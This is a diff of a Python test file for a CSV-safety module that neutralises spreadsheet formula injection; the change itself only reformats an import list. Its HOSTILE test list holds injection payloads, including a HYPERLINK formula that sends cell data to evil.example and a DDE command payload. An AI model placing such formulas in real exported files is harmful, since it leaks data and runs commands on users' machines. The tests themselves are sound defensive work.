@@ -9,8 +9,15 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from cxinfluence.csvsafe import (neutralise_arrow, neutralise_cell, neutralise_frame, read_output_csv, restore_arrow,
-                                 restore_cell, restore_frame)
+from cxinfluence.csvsafe import (
+    neutralise_arrow,
+    neutralise_cell,
+    neutralise_frame,
+    read_output_csv,
+    restore_arrow,
+    restore_cell,
+    restore_frame,
+)
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*C4", "+1+1",
            "-2+3", "\t=1+1", "\r=1+1", " =1+1", "'=already quoted", "-x", "@", "=", "-3x", "''@x", "\n-1-1"]
